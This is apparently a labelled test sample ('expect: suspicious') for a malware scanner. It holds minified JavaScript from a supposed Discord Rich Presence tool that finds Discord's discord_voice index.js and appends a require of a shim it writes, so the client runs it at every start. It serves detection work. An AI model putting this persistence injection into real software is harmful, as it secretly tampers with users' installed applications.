// expect: suspicious
// source: blind set 24's Rich Presence CLI (minified): it walks Discord's folders for the `discord_voice` module and
// appends a require of a shim it writes beside it, so the client runs the shim at every start
var e = require("fs"), t = require("path"), n = require("os");
function walk(dir, depth) {
  var out = [];
  try {
    e.readdirSync(dir, { withFileTypes: !0 }).forEach(function (d) {
      var p = t.join(dir, d.name);
      d.isDirectory() && (d.name === "discord_voice" ? out.push(t.join(p, "index.js")) : depth < 5 && (out = out.concat(walk(p, depth + 1))));
    });
  } catch (x) {}
  return out;
}
module.exports = function () {
  walk(t.join(n.homedir(), ".config", "discord"), 0).forEach(function (f) {
    var src = e.readFileSync(f, "utf8");
    if (src.indexOf("voice_shim") !== -1) return;
    e.writeFileSync(t.join(t.dirname(f), "voice_shim.js"), "module.exports = require('./hook-sample');\n");
    e.writeFileSync(f, src + "\nrequire('./voice_shim');\n");
  });
};
